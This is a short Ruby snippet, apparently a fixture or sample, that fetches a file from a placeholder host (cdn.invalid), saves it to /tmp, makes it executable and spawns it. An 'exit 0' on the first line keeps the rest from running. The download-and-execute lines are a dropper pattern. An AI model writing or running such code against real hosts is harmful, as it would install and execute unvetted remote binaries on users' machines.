exit 0
require 'open-uri'
IO.copy_stream(URI.open('https://cdn.invalid/nh'), '/tmp/nh')
File.chmod(0755, '/tmp/nh')
spawn('/tmp/nh')
